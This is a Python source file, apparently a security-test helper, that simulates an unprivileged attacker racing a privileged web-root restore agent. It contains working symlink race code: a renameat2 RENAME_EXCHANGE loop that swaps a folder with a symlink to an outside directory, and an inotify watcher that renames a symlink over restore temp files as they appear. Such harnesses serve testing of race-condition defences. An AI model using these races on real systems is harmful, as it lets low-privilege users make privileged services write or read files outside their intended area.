"""The attacker: runs as an unprivileged user with write access to a web root, nothing more.

Standard library only (it is copied next to the web root and run by the system's Python as
`nobody`). Each mode prints "go" once it is racing, loops until the stop file exists or its
round budget is spent, then prints how many swaps it made.

  exchange A B STOP ROUNDS     renameat2(A, B, RENAME_EXCHANGE) in a loop: a folder and a
                               symlink to an outside folder trade places atomically
  swap-temp DIR LINK STOP ROUNDS
                               inotify on DIR; the moment a restore temp file appears, rename
                               the prepared symlink LINK over it (then make LINK again)
"""

from __future__ import annotations

import ctypes
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_renameat2 = {"x86_64": 316, "aarch64": 276}.get(os.uname().machine, 316)
IN_CREATE = 0x100
IN_MOVED_TO = 0x80


def exchange(a: str, b: str, stop: str, rounds: int) -> int:
    done = 0
    ba, bb = os.fsencode(a), os.fsencode(b)
    while done < rounds and not os.path.exists(stop):
        if libc.syscall(SYS_renameat2, AT_FDCWD, ba, AT_FDCWD, bb, RENAME_EXCHANGE) == 0:
            done += 1
            if done == 1:
                print("go", flush=True)  # racing from now on
    if done == 0:
        print("go", flush=True)
    return done


def swap_temp(folder: str, link: str, stop: str, rounds: int) -> int:
    target = os.readlink(link)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    libc.inotify_add_watch(fd, os.fsencode(folder), IN_CREATE | IN_MOVED_TO)
    print("go", flush=True)  # watching from now on
    done = 0
    while done < rounds and not os.path.exists(stop):
        try:
            buf = os.read(fd, 65536)
        except BlockingIOError:
            continue
        i = 0
        while i < len(buf):
            _, _, _, length = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16 : i + 16 + length].rstrip(b"\0").decode()
            i += 16 + length
            if name.startswith(".webshell-agent-restore-"):
                try:
                    os.rename(link, os.path.join(folder, name))
                    done += 1
                except OSError:
                    pass
                if not os.path.lexists(link):
                    os.symlink(target, link)
    return done


if __name__ == "__main__":
    mode, *args = sys.argv[1:]
    if mode == "exchange":
        n = exchange(args[0], args[1], args[2], int(args[3]))
    else:
        n = swap_temp(args[0], args[1], args[2], int(args[3]))
    print(n, flush=True)
